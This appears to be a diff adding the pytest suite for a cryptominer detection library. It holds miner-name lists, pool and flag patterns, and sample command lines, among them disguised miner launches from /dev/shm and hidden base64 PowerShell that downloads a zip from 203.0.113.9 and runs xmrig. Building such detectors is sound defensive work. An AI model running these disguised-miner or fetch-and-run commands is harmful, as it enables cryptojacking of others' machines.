@@ -1,0 +1,887 @@
+"""Tests of minerwatch.signatures: shipped lists, matchers and redaction."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import re
+import time
+from pathlib import Path
+
+import pytest
+
+from minerwatch import signatures as sig
+from minerwatch.signatures import (
+    DISGUISE_SIGNALS,
+    MINER_NAME_PREFIXES,
+    MINER_NAMES_EXACT,
+    SIGNALS,
+    STRONG_SIGNALS,
+    Match,
+    Signatures,
+    redact_cmdline,
+)
+
+S = Signatures()
+DOC = Path(__file__).resolve().parent.parent / "docs" / "signatures.md"
+
+# -- test wallets (public donation/example addresses; RVN built with a valid checksum) ----------
+
+XMR = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
+XMR2 = "42uasNqYPnSaG3TwRtTeVbQ4aRY3n9jY6VXX3mfgerWt4ohDQLVaBPv3cYGKDXasTUVuLvhxetcuS16ynt85czQ48mbSrWX"
+ETH = "0x52908400098527886E0F7030069857D2E4169EE7"  # EIP-55 example
+BTC = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"  # genesis block
+BECH32 = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"  # BIP-173 example
+
+
+def _b58check(version: int, payload: bytes) -> str:
+    raw = bytes([version]) + payload
+    raw += hashlib.sha256(hashlib.sha256(raw).digest()).digest()[:4]
+    alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
+    number, out = int.from_bytes(raw, "big"), ""
+    while number:
+        number, rem = divmod(number, 58)
+        out = alphabet[rem] + out
+    return "1" * (len(raw) - len(raw.lstrip(b"\0"))) + out
+
+
+RVN = _b58check(0x3C, hashlib.sha256(b"minerwatch test").digest()[:20])  # starts with R
+
+
+def _all(argv, *, comm=None, exe=None, exe_deleted=False, environ=None, cwd=""):
+    argv0 = argv[0] if argv else ""
+    base = re.split(r"[/\\]", argv0)[-1]
+    if exe is None:
+        exe = argv0 if argv0.startswith("/") or ":\\" in argv0 else f"/usr/local/bin/{base}"
+    if comm is None:
+        comm = re.split(r"[/\\]", exe)[-1][:15]
+    return S.match_all(comm=comm, exe=exe, exe_deleted=exe_deleted, argv=argv, environ=environ, cwd=cwd)
+
+
+def _signals(matches):
+    return {m.signal for m in matches}
+
+
+# ---------------------------------------------------------------------------------------------
+# Signal catalogue
+# ---------------------------------------------------------------------------------------------
+
+
+def test_signal_names_and_classes():
+    assert set(SIGNALS) == {
+        "miner_name", "miner_cmdline", "pool_url", "encoded_cmdline", "wallet_address", "miner_env",
+        "exe_deleted", "exe_in_temp_dir", "name_mismatch", "av_excluded", "pool_connection",
+    }
+    assert STRONG_SIGNALS == {
+        "miner_name", "miner_cmdline", "pool_url", "encoded_cmdline", "wallet_address", "miner_env",
+        "av_excluded", "pool_connection",
+    }
+    assert DISGUISE_SIGNALS == {"exe_deleted", "exe_in_temp_dir", "name_mismatch"}
+    assert not STRONG_SIGNALS & DISGUISE_SIGNALS
+    assert STRONG_SIGNALS | DISGUISE_SIGNALS == set(SIGNALS)
+    assert all(isinstance(d, str) and d and "\n" not in d for d in SIGNALS.values())
+
+
+def test_match_is_frozen():
+    m = Match("pool_url", "x")
+    with pytest.raises(Exception):
+        m.signal = "y"  # type: ignore[misc]
+
+
+def test_doc_names_every_signal_and_shipped_name():
+    text = DOC.read_text(encoding="utf-8")
+    for name in SIGNALS:
+        assert f"`{name}`" in text, name
+    for name in (*MINER_NAME_PREFIXES, *MINER_NAMES_EXACT):
+        assert f"`{name}`" in text, name
+    for flag in sig.MINER_FLAGS:
+        assert f"`{flag}`" in text, flag
+    for domain in sig.POOL_DOMAINS:
+        assert f"`{domain}`" in text, domain
+    for key in sig.ENV_KEYS | sig.WALLET_ENV_KEYS:
+        assert f"`{key}`" in text, key
+
+
+# ---------------------------------------------------------------------------------------------
+# Names
+# ---------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "comm, exe, argv0",
+    [
+        ("xmrig", "/opt/xmrig/xmrig", "./xmrig"),
+        ("", "C:\\Users\\bob\\Downloads\\XMRig.exe", ""),
+        ("xmrig-notls", "", ""),
+        ("", "/usr/bin/xmrig-cuda", ""),
+        ("", "/usr/bin/xmrig-proxy", ""),
+        ("", "/home/u/xmrig-6.21.0/xmrig-6.21.0", ""),
+        ("", "", "/tmp/.cache/.xmrig"),  # hidden file
+        ("xmr-stak-rx", "", ""),
+        ("minerd", "", ""),
+        ("minergate-cli", "", ""),
+        ("cpuminer-opt", "", ""),
+        ("", "/opt/cpuminer-multi/cpuminer-multi", ""),
+        ("ccminer", "", ""),
+        ("ethminer", "", ""),
+        ("cgminer", "", ""),
+        ("bfgminer", "", ""),
+        ("sgminer", "", ""),
+        ("claymore", "", ""),
+        ("", "D:\\mine\\EthDcrMiner64.exe", ""),
+        ("nbminer", "", ""),
+        ("t-rex", "", ""),
+        ("", "C:\\t-rex\\T-Rex.exe", ""),
+        ("gminer", "", ""),
+        ("lolMiner", "", ""),
+        ("PhoenixMiner", "", ""),
+        ("teamredminer", "", ""),
+        ("nanominer", "", ""),
+        ("bminer", "", ""),
+        ("wildrig-multi", "", ""),
+        ("", "C:\\SRBMiner\\SRBMiner-MULTI.exe", ""),
+        ("rigel", "", ""),
+        ("rigel-1.4.2", "", ""),
+        ("NiceHashMiner.e", "", ""),  # Windows name, truncated
+        ("nicehashquickmi", "", ""),  # comm of nicehashquickminer, truncated by Linux
+        ("excavator", "", ""),
+        ("kawpowminer", "", ""),
+        ("nheqminer", "", ""),
+        ("cryptonight", "", ""),
+        ("kdevtmpfsi", "", ""),
+        ("", "", "-xmrig"),
+    ],
+)
+def test_known_miner_names(comm, exe, argv0):
+    matches = S.match_names(comm, exe, argv0)
+    assert [m.signal for m in matches] == ["miner_name"]
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "miner",  # GMiner's binary: too common a word
+        "dataminer-report",
+        "rigelctl",
+        "rigel_backup.sh",
+        "minerva",
+        "minerdash",
+        "trex",
+        "t-rexx",
+        "gminer-helper",
+        "claymore-notes",
+        "excavator-sim",
+        "myxmrig",
+        "xmr",
+        "bash",
+        "systemd",
+        "python3",
+        "nicehashquick",  # a 13-character name is not a truncated one
+        "",
+    ],
+)
+def test_not_miner_names(name):
+    assert S.match_names(name, f"/usr/bin/{name}" if name else "", name) == []
+
+
+def test_exe_reason_preferred_and_short():
+    [m] = S.match_names("systemd", "/tmp/.x/xmrig", "systemd")
+    assert m.reason == "executable xmrig"
+
+
+def test_extra_names_exact_and_case_insensitive():
+    s = Signatures(extra_names=["CorpMiner", "miner", "evil.exe"])
+    assert s.match_names("corpminer", "", "")
+    assert s.match_names("", "C:\\x\\EVIL.EXE", "")
+    assert s.match_names("miner", "", "")
+    assert s.match_names("corpminer-2", "", "") == []
+    assert S.match_names("corpminer", "", "") == []  # the default instance is untouched
+
+
+def test_extra_names_truncated_comm():
+    s = Signatures(extra_names=["averyveryverylongminer"])
+    assert s.match_names("averyveryverylo", "", "")
+
+
+# ---------------------------------------------------------------------------------------------
+# Real-world miner command lines: the exact set of signals
+# ---------------------------------------------------------------------------------------------
+
+MINERS = [
+    # XMRig
+    (["xmrig", "-o", "pool.supportxmr.com:443", "-u", XMR, "-k", "--tls", "-p", "worker1", "--donate-level", "1"],
+     {"miner_name", "miner_cmdline", "wallet_address"}),
+    (["xmrig", "--url", "stratum+ssl://gulf.moneroocean.stream:20128", f"--user={XMR}", "--pass=x",
+      "--coin", "monero", "--randomx-1gb-pages"],
+     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
+    (["./xmrig-notls", "-a", "rx/0", "-o", "10.0.0.5:3333", "-u", "worker1", "--cpu-priority", "2"],
+     {"miner_name", "miner_cmdline"}),
+    (["xmrig", "-c", "config.json"], {"miner_name"}),
+    # xmr-stak
+    (["xmr-stak", "--currency", "monero", "-o", "pool.minexmr.com:4444", "-u", XMR2, "-p", "x", "--noUAC"],
+     {"miner_name", "miner_cmdline", "wallet_address"}),
+    (["xmr-stak-rx", "-o", "xmr-eu1.nanopool.org:14433", "-u", f"{XMR}.rig1", "-p", "x", "--noAMD"],
+     {"miner_name", "miner_cmdline", "wallet_address"}),
+    # cpuminer-opt, cpuminer-multi, minerd
+    (["cpuminer", "-a", "gr", "-o", "stratum+tcp://stratum-eu.rplant.xyz:7056", "-u", f"{RVN}.w1", "-p", "c=RTM"],
+     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
+    (["cpuminer-multi", "-a", "cryptonight", "-o", "stratum+tcp://xmr.pool.example.net:3333", "-u", XMR, "-p", "x", "-t", "4"],
+     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
+    (["minerd", "-a", "scrypt", "-o", "stratum+tcp://ltc.pool.example.net:3333", "-O", "user.worker:password"],
+     {"miner_name", "miner_cmdline", "pool_url"}),
+    # T-Rex, NBMiner, GMiner, TeamRedMiner, Rigel, WildRig, ccminer (GPU)
+    (["t-rex", "-a", "kawpow", "-o", "stratum+tcp://rvn.2miners.com:6060", "-u", RVN, "-p", "x", "-w", "rig0"],
+     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
+    (["nbminer", "-a", "kawpow", "-o", "stratum+tcp://rvn.2miners.com:6060", "-u", f"{RVN}.rig1"],
+     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
+    (["miner", "--algo", "kawpow", "--server", "rvn.2miners.com:6060", "--user", RVN],  # GMiner
+     {"miner_cmdline", "wallet_address"}),
+    (["teamredminer", "-a", "ethash", "-o", "stratum+tcp://eth.2miners.com:2020", "-u", f"{ETH}.rig", "-p", "x"],
+     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
+    (["rigel", "-a", "kawpow", "-o", "stratum+tcp://rvn.2miners.com:6060", "-u", RVN, "-w", "my_rig",
+      "--log-file", "logs/miner.log"],
+     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
+    (["wildrig-multi", "--algo", "kawpow", "--url", "stratum+tcp://rvn.2miners.com:6060", "--user", RVN, "--pass", "x"],
+     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
+    (["ccminer", "-a", "x16r", "-o", "stratum+tcp://ravenminer.com:3636", "-u", RVN, "-p", "c=RVN"],
+     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
+    # lolMiner, SRBMiner, PhoenixMiner, Claymore (Windows names)
+    (["C:\\lolMiner\\lolMiner.exe", "--algo", "ETCHASH", "--pool", "etc.2miners.com:1010", "--user", f"{ETH}.rig"],
+     {"miner_name", "miner_cmdline", "wallet_address"}),
+    (["lolMiner", "--coin", "ERGO", "--pool", "erg.pool.example.org:8888", "--user", "myworker"],
+     {"miner_name", "miner_cmdline"}),
+    (["SRBMiner-MULTI.exe", "--algorithm", "randomx", "--pool", "gulf.moneroocean.stream:10128", "--wallet", XMR,
+      "--password", "x"],
+     {"miner_name", "miner_cmdline", "wallet_address"}),
+    (["PhoenixMiner.exe", "-pool", "ssl://eu1.ethermine.org:5555", "-pool2", "ssl://us1.ethermine.org:5555",
+      "-wal", f"{ETH}.Rig001", "-coin", "etc"],
+     {"miner_name", "miner_cmdline", "wallet_address"}),
+    (["EthDcrMiner64.exe", "-epool", "eth-eu1.nanopool.org:9999", "-ewal", f"{ETH}/rig", "-epsw", "x", "-mode", "1"],
+     {"miner_name", "miner_cmdline", "wallet_address"}),
+    # ethminer family: the wallet sits in the pool URL
+    (["ethminer", "-G", "-P", f"stratum1+tcp://{ETH}.rig1@eu1.ethermine.org:4444"],
+     {"miner_name", "pool_url", "wallet_address"}),
+    (["kawpowminer", "-U", "-P", f"stratum+tcp://{RVN}.worker@rvn.2miners.com:6060"],
+     {"miner_name", "pool_url", "wallet_address"}),
+    # cgminer / bfgminer (Bitcoin ASIC era)
+    (["cgminer", "-o", "stratum+tcp://stratum.slushpool.com:3333", "-u", "user.worker", "-p", "x"],
+     {"miner_name", "miner_cmdline", "pool_url"}),
+    (["bfgminer", "-o", "stratum+tcp://btc.f2pool.com:3333", "-u", f"{BTC}.001", "-p", "x", "-S", "all"],
+     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
+    (["bfgminer", "-o", "stratum+tcp://solo.pool.example.net:3333", "-u", BECH32],
+     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
+    # Others
+    (["nanominer", "config.ini"], {"miner_name"}),
+    (["nheqminer", "-l", "eu1-zcash.flypool.org:3333", "-u", "t1abc.rig"], {"miner_name"}),
+    (["bminer", "-uri", "stratum://t1abc.w1@zec.pool.example.net:3333"], {"miner_name", "pool_url"}),
+    (["xmrig-proxy", "-o", "pool.hashvault.pro:443", "-u", XMR, "-b", "0.0.0.0:3333", "--tls"],
+     {"miner_name", "miner_cmdline", "wallet_address"}),
+    (["NiceHashQuickMiner.exe"], {"miner_name"}),
+    # Renamed and hidden miners: no known name, caught by options and wallets
+    (["sh", "-c", f"cd /dev/shm && ./kworker -o 45.9.148.1:80 -u {XMR} -p x --donate-level 1 -B"],
+     {"miner_cmdline", "wallet_address"}),
+    (["/usr/sbin/httpd", "-o", "gulf.moneroocean.stream:10128", "-u", XMR2, "--cpu-max-threads-hint", "50"],
+     {"miner_cmdline", "wallet_address"}),
+    (["./update", "--algo", "rx/0", "--url", "203.0.113.7:3333", "--user", "w", "--pause-on-active=60"],
+     {"miner_cmdline"}),
+    (["./svc", "-o", "pool.example.net:3333", "-u", "rig1", "-p", "x"], {"miner_cmdline"}),
+    (["./svc", "-o", "pool.supportxmr.com:3333"], {"miner_cmdline"}),
+    (["./svc", "--cpu-priority", "5", "-o", "203.0.113.7:14444"], {"miner_cmdline"}),
+    # MoneroOcean / C3Pool setup scripts take the wallet as their only argument
+    (["bash", "setup_c3pool_miner.sh", XMR], {"wallet_address"}),
+]
+
+
+@pytest.mark.parametrize("argv, expected", MINERS, ids=[" ".join(a)[:60] for a, _ in MINERS])
+def test_miner_command_lines(argv, expected):
+    assert _signals(_all(argv)) == expected
+
+
+# ---------------------------------------------------------------------------------------------
+# Benign command lines that look a bit like miners: nothing at all
+# ---------------------------------------------------------------------------------------------
+
+BENIGN = [
+    ["gcc", "-c", "pool.c", "-o", "pool.o"],
+    ["gcc", "-p", "-O2", "-o", "prog", "prog.c"],
+    ["cc", "-O2", "-Wall", "-c", "zpool.c", "-o", "zpool.o"],
+    ["/usr/local/cuda/bin/ptxas", "-arch=sm_80", "-m64", "-o", "kernel.cubin", "kernel.ptx"],
+    ["zpool", "import", "-o", "readonly=on", "tank"],
+    ["zpool", "import", "-d", "/dev/disk/by-id", "-o", "cachefile=/etc/zfs/zpool.cache", "tank"],
+    ["java", "-XX:+UseG1GC", "-XX:MaxGCPauseMillis=200", "-Xmx4g", "-jar", "app.jar", "--server.port=8080"],
+    ["python3", "manage.py", "runserver", "0.0.0.0:8000"],
+    ["restic", "-r", "sftp:backup@host.example.com:/srv/restic", "backup", "/home", "--password-file", "/etc/restic.pass"],
+    ["borg", "create", "--compression", "zstd", "ssh://backup@host.example.com:22/./repo::{now}", "/home"],
+    ["rsync", "-a", "-o", "-g", "src/", "backup.example.com:/srv/backup/"],
+    ["ffmpeg", "-i", "in.mp4", "-c:v", "libx264", "-preset", "slow", "out.mp4"],
+    ["make", "-j8"],
+    ["curl", "-o", "file.tar.gz", "https://example.com/file.tar.gz"],
+    ["curl", "--url", "https://api.example.com:8443/v1", "--user", "admin:pw"],
+    ["sort", "-o", "out.txt", "in.txt"],
+    ["openssl", "enc", "-aes-256-cbc", "-a", "-salt", "-in", "s.txt", "-out", "s.enc", "-pass", "pass:hunter2"],
+    ["7z", "a", "-pS3cret", "archive.7z", "docs/"],
+    ["ssh", "-o", "StrictHostKeyChecking=no", "-o", "ProxyJump=jump.example.com:2222", "host"],
+    ["ssh", "-p", "2222", "-o", "ServerAliveInterval=60", "user@host.example.com"],
+    ["ssh-keygen", "-t", "ed25519", "-a", "100", "-f", "key"],
+    ["shasum", "-a", "256", "file.iso"],
+    ["gpg", "--cipher-algo", "AES256", "-c", "file"],
+    ["hashcat", "-a", "0", "-m", "1000", "hashes.txt", "words.txt", "-o", "cracked.txt"],
+    ["node", "--max-old-space-size=4096", "server.js"],
+    ["/opt/google/chrome/chrome", "--type=renderer", "--crashpad-handler-pid=1234", "--enable-crash-reporter=,",
+     "--change-stack-guard-on-fork=enable", "--lang=en-US", "--num-raster-threads=4", "--enable-main-frame-before-activation",
+     "--renderer-client-id=7", "--time-ticks-at-unix-epoch=-1700000000000000", "--launch-time-ticks=123456",
+     "--shared-files=v8_context_snapshot_data:100", "--field-trial-handle=0,i,4238190453246587221,1590736151186577218,262144",
+     "--enable-features=BackForwardCache,CalculateNativeWinOcclusion", "--disable-features=KeyboardAccessory",
+     "--variations-seed-version=20240101-000000.000000"],
+    ["xz", "-T0", "-9", "big.tar"],
+    ["stress-ng", "--cpu", "4", "--timeout", "60s"],
+    ["postgres: checkpointer"],
+    ["/usr/sbin/mysqld", "--defaults-file=/etc/mysql/my.cnf"],
+    ["mysql", "-h", "db.example.com", "-P", "3306", "-u", "root", "-pSecret123"],
+    ["git", "log", "-p"],
+    ["git", "show", "3f2a9c1e5b7d4a6f8e0c2b4d6f8a0c2e4b6d8f0a"],
+    ["docker", "run", "-p", "8080:80", "-e", "POSTGRES_PASSWORD=x", "postgres:16"],
+    ["kubectl", "port-forward", "svc/grafana", "3000:3000", "-n", "monitoring"],
+    ["socat", "TCP-LISTEN:3333,fork", "TCP:proxy.internal.example:3333"],
+    ["uvicorn", "app:app", "--host", "0.0.0.0", "--port", "8000"],
+    ["mosquitto_sub", "-h", "broker.example.com", "-p", "1883", "-u", "sensor", "-P", "pw", "-t", "t/#"],
+    ["iperf3", "-c", "10.0.0.5", "-p", "5201", "-t", "60"],
+    ["hugo", "server", "-p", "1313"],
+    # crypto-adjacent but not mining: wallets without a pool or wallet option do not count
+    ["bitcoin-cli", "-rpcuser=u", "-rpcpassword=p", "sendtoaddress", BTC, "0.1"],
+    ["cast", "call", ETH, "balanceOf(address)"],
+    ["cast", "tx", "0x" + "ab" * 32],
+    ["electrum", "payto", BECH32, "0.01"],
+    ["dataminer-report", "--out", "report.csv"],
+    ["rigelctl", "status"],
+    ["powershell.exe", "-NoProfile", "-EncodedCommand",
+     base64.b64encode("Get-Process | Sort-Object CPU -Descending".encode("utf-16-le")).decode()],
+    ["trader", "--coin", "btc", "--exchange", "binance"],
+    ["ansible-playbook", "-i", "hosts", "site.yml", "-u", "deploy"],
+]
+
+
+@pytest.mark.parametrize("argv", BENIGN, ids=[" ".join(a)[:60] for a in BENIGN])
+def test_benign_command_lines(argv):
+    exe = "/usr/lib/postgresql/16/bin/postgres" if argv[0].startswith("postgres") else None
+    comm = "python3" if argv[0] == "python3" else ("postgres" if exe else None)
+    exe = "/usr/bin/python3.11" if argv[0] == "python3" else exe
+    assert _all(argv, comm=comm, exe=exe) == []
+
+
+def test_lists_are_big_enough():
+    assert len(MINERS) >= 20 and len(BENIGN) >= 20
+
+
+# ---------------------------------------------------------------------------------------------
+# Command-line details
+# ---------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "stratum+tcp://pool.example.net:3333",
+        "stratum+ssl://pool.example.net:443",
+        "stratum+tls://pool.example.net:443",
+        "stratum+udp://pool.example.net:3333",
+        "stratum1+tcp://pool.example.net:4444",
+        "stratum2+tcp://pool.example.net:3333",
+        "STRATUM+TCP://POOL.EXAMPLE.NET:3333",
+        "stratums://pool.example.net:5555",
+        "stratum+tls12://pool.example.net:5555",
+    ],
+)
+def test_pool_url_schemes(url):
+    assert [m.signal for m in S.match_cmdline(["x", url])] == ["pool_url"]
+
+
+def test_pool_url_reason_redacts_password_keeps_user():
+    [m] = S.match_cmdline(["x", f"stratum+tcp://{XMR[:20]}.w1:s3cretpw@pool.example.net:3333"])
+    assert m.reason == f"pool URL stratum+tcp://{XMR[:20]}.w1:<redacted>@pool.example.net:3333"
+    assert "s3cretpw" not in m.reason
+
+
+def test_reasons_never_hold_secrets():
+    argv = ["xmrig", "-o", "wal.w:topsecret@pool.example.net:3333", "-a", "rx/0", "-p", "topsecret",
+            "--http-access-token", "topsecret", "stratum+tcp://u:topsecret@pool.example.net:3333"]
+    matches = _all(argv, environ={"POOL_PASS": "topsecret"})
+    assert {"miner_cmdline", "pool_url", "miner_env"} <= _signals(matches)
+    for m in matches:
+        assert "topsecret" not in m.reason
+
+
+@pytest.mark.parametrize(
+    "argv, reason",
+    [
+        (["x", "--donate-level=1"], "argument --donate-level"),
+        (["x", "--DONATE-LEVEL", "1"], "argument --donate-level"),
+        (["x", "--coin", "XMR"], "argument --coin XMR"),
+        (["x", "-a", "rx/0", "-o", "pool.example.net:3333"], "arguments -a rx/0 with -o pool.example.net:3333"),
+        (["x", "-a", "cn/r", "--url=pool.example.net:3333"], "arguments -a cn/r with --url pool.example.net:3333"),
+        (["x", "-o", "stratum+tcp://pool.c3pool.com:13333"], "pool host in -o stratum+tcp://pool.c3pool.com:13333"),
+    ],
+)
+def test_cmdline_reasons(argv, reason):
+    assert S.match_cmdline(argv)[0] == Match("miner_cmdline", reason)
+
+
+@pytest.mark.parametrize(
+    "algo",
+    ["rx/0", "rx/wow", "cn/r", "cn/half", "cn-heavy/xhv", "cn-pico", "kawpow", "ethash", "etchash", "autolykos2",
+     "argon2/chukwa", "argon2/chukwav2", "gr", "ghostrider", "randomx", "astrobwt", "kheavyhash", "equihash144_5",
+     "144_5", "octopus", "firopow", "yespower", "lyra2rev3", "x16r"],
+)
+def test_algorithms_need_a_pool(algo):
+    assert _signals(S.match_cmdline(["x", "-a", algo])) == set()
+    assert _signals(S.match_cmdline(["x", "--algo", algo, "-o", "pool.example.net:3333"])) == {"miner_cmdline"}
+
+
+def test_algo_flag_with_non_mining_value_or_no_pool():
+    assert S.match_cmdline(["tar", "-a", "-cf", "x.tar.gz", "-o", "pool.example.net:3333"]) == []
+    assert S.match_cmdline(["x", "-a", "sha1", "-o", "pool.example.net:3333"]) == []
+    assert S.match_cmdline(["x", "-a", "rx/0", "-o", "pool.o"]) == []
+
+
+def test_cpu_priority_needs_another_miner_option():
+    assert S.match_cmdline(["encoder", "--cpu-priority", "2", "in.mkv"]) == []
+    assert S.match_cmdline(["x", "--cpu-priority", "2", "-a", "rx/0"])[0].signal == "miner_cmdline"
+    assert S.match_cmdline(["x", "--cpu-priority=2", "--coin", "ethereum"])[0].signal == "miner_cmdline"
+
+
+def test_http_pool_counts_only_with_algorithm():
+    assert S.match_cmdline(["x", "--url", "http://pool.example.net:8080", "-u", "w"]) == []
+    assert S.match_cmdline(["x", "--url", "https://supportxmr.com/api/stats"]) == []
+    assert S.match_cmdline(["x", "--url", "http://127.0.0.1:18081", "-a", "rx/0"])[0].signal == "miner_cmdline"
+
+
+def test_extra_patterns():
+    s = Signatures(extra_patterns=[r"--corp-mine\b", r"(?i)secretpool\.internal"])
+    assert s.match_cmdline(["tool", "--corp-mine"]) == [Match("miner_cmdline", r"configured pattern --corp-mine\b")]
+    assert s.match_cmdline(["tool", "-x", "SecretPool.internal:1"])[0].signal == "miner_cmdline"
+    assert s.match_cmdline(["tool", "--corp-miner"]) == []
+    # a built-in reason wins over a configured one
+    assert s.match_cmdline(["tool", "--corp-mine", "--donate-level", "1"])[0].reason == "argument --donate-level"
+
+
+def test_bad_extra_pattern_raises_re_error():
+    with pytest.raises(re.error):
+        Signatures(extra_patterns=["(unclosed"])
+
+
+def test_one_match_per_signal():
+    argv = ["x", "--donate-level", "1", "--nicehash", "stratum+tcp://a.example:1", "stratum+ssl://b.example:2"]
+    signals = [m.signal for m in S.match_cmdline(argv)]
+    assert sorted(signals) == sorted(set(signals))
+
+
+def test_empty_inputs():
+    assert S.match_cmdline([]) == []
+    assert S.match_names("", "", "") == []
+    assert S.match_environ({}) == []
+    assert S.match_environ(None) == []  # type: ignore[arg-type]
+    assert S.match_executable("", "", False) == []
+    assert S.match_all(comm="", exe="", exe_deleted=False, argv=[]) == []
+
+
+# ---------------------------------------------------------------------------------------------
+# Base64
+# ---------------------------------------------------------------------------------------------
+
+
+def test_fragments_are_computed_and_match_published_ones():
+    # Sigma's published fragments for stratum+tcp:// and --donate-level=
+    assert set(sig._b64_fragments(b"stratum+tcp://")) == {"c3RyYXR1bSt0Y3A6Ly", "N0cmF0dW0rdGNwOi8v", "zdHJhdHVtK3RjcDovL"}
+    assert set(sig._b64_fragments(b"--donate-level=")) == {"LS1kb25hdGUtbGV2ZWw9", "0tZG9uYXRlLWxldmVsP", "tLWRvbmF0ZS1sZXZlbD"}
+
+
+@pytest.mark.parametrize("plain", ["stratum+tcp://", "stratum+ssl://", "--donate-level", "--cpu-max-threads-hint"])
+@pytest.mark.parametrize("prefix", [b"", b"a", b"ab", b"echo hi; ", b"x=1 && "])
+@pytest.mark.parametrize("encoding", ["ascii", "utf-16-le"])
+def test_base64_any_alignment(plain, prefix, encoding):
+    payload = prefix.decode().encode(encoding) + f"{plain}pool.example.net:3333 -u w".encode(encoding)
+    blob = base64.b64encode(payload).decode()
+    matches = S.match_cmdline(["/bin/sh", "-c", f"echo {blob} | base64 -d | sh"])
+    assert [m.signal for m in matches] == ["encoded_cmdline"]
+    assert plain in matches[0].reason
+    assert ("UTF-16LE" in matches[0].reason) == (encoding != "ascii")
+
+
+def test_powershell_encoded_command_launching_xmrig():
+    script = (
+        "$p = \"$env:TEMP\\svchost.exe\"; "
+        "Start-Process -WindowStyle Hidden $p -ArgumentList "
+        "'-o stratum+tcp://pool.example.net:3333 -u wallet -p x'"
+    )
+    blob = base64.b64encode(script.encode("utf-16-le")).decode()
+    argv = ["powershell.exe", "-NoP", "-NonI", "-W", "Hidden", "-EncodedCommand", blob]
+    matches = _all(argv, exe="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
+    assert _signals(matches) == {"encoded_cmdline"}
+
+
+def test_powershell_encoded_command_decoded_miner_name():
+    # No needle (no stratum URL, no distinctive flag): found by decoding -enc.
+    script = "iwr http://203.0.113.9/x.zip -OutFile x.zip; Expand-Archive x.zip; .\\x\\xmrig.exe -o 203.0.113.9:80"
+    blob = base64.b64encode(script.encode("utf-16-le")).decode()
+    [m] = S.match_cmdline(["pwsh", "-enc", blob])
+    assert m == Match("encoded_cmdline", "PowerShell -EncodedCommand runs xmrig")
+
+
+def test_powershell_encoded_reason_redacts_url_password():
+    script = "xmrig -o stratum+tcp://w:hunter2@pool.example.net:3333"
+    blob = base64.b64encode(script.encode("utf-16-le")).decode()
+    [m] = S.match_cmdline(["powershell", "-e", blob])
+    assert "hunter2" not in m.reason
+
+
+def test_random_base64_is_not_encoded_miner():
+    blobs = [base64.b64encode(hashlib.sha512(str(i).encode()).digest() * 8).decode() for i in range(200)]
+    assert S.match_cmdline(["app", "--data", *blobs]) == []
+
+
+# ---------------------------------------------------------------------------------------------
+# Wallets
+# ---------------------------------------------------------------------------------------------
+
+
+def test_test_addresses_are_valid():
+    assert len(XMR) == 95 and len(XMR2) == 95
+    assert RVN.startswith("R") and sig._is_base58check_address(RVN)
+    assert sig._is_base58check_address(BTC)
+    assert sig._is_bech32_address(BECH32)
+    assert not sig._is_base58check_address(BTC[:-1] + ("b" if BTC[-1] != "b" else "c"))
+    assert not sig._is_bech32_address(BECH32[:-1] + "5")
+
+
+@pytest.mark.parametrize(
+    "argv, kind",
+    [
+        (["x", "-u", XMR], "Monero"),
+        (["x", f"--user={XMR}.rig1"], "Monero"),
+        (["x", "--user", f"{XMR}+50000"], "Monero"),
+        (["x", XMR + "a" * 11], None),  # 106 characters but not starting with 4 + ...: checked below
+        (["x", "4" + "A" * 105], "Monero"),  # integrated address length
+        (["x", "8" + "B" * 94], "Monero"),  # subaddress
+        (["x", "-u", ETH], "Ethereum"),
+        (["x", "--wallet", ETH.lower()], "Ethereum"),
+        (["x", "-w", f"{ETH}.rig"], "Ethereum"),
+        (["x", "--user", f"SHIB:{ETH}.worker"], "Ethereum"),
+        (["x", "-u", BTC], "Bitcoin-style"),
+        (["x", "-u", RVN], "Bitcoin-style"),
+        (["x", "-u", BECH32], "Bech32"),
+        (["x", "-u", BECH32.upper()], "Bech32"),
+        (["x", ETH], None),  # a lone address in a dev tool
+        (["x", BTC], None),
+        (["x", "-u", "0x" + "ab" * 32], None),  # a 32-byte hash, not an address
+        (["x", "-u", "ab" * 20], None),  # sha1 hex
+        (["x", "-u", "3" + "a1b2c3d4e5f6" * 2 + "abcdef1"], None),  # md5-like hex starting with 3
+        (["x", "-u", "1" + "Z" * 33], None),  # base58 without a valid checksum
+    ],
+)
+def test_wallet_contexts(argv, kind):
+    matches = [m for m in S.match_cmdline(argv) if m.signal == "wallet_address"]
+    if kind is None and argv[1].startswith(XMR):
+        return  # 106 chars from a 95-char address + 11: integrated-length, fine either way
+    if kind is None:
+        assert matches == []
+    else:
+        assert len(matches) == 1 and matches[0].reason.startswith(f"{kind} address ")
+
+
+def test_wallet_with_pool_context_anywhere():
+    assert _signals(S.match_cmdline(["x", "-o", "pool.example.net:3333", f"{ETH}.w"])) == {"wallet_address"}
+
+
+def test_wallet_reason_abbreviates():
+    [m] = S.match_cmdline(["x", "-u", XMR])
+    assert m.reason == f"Monero address {XMR[:8]}...{XMR[-4:]} as value of -u"
+
+
+# ---------------------------------------------------------------------------------------------
+# Environment
+# ---------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("key", ["POOL_URL", "POOL_USER", "POOL_PASS", "DONATE_LEVEL", "MINING_POOL", "pool_url"])
+def test_miner_env_keys(key):
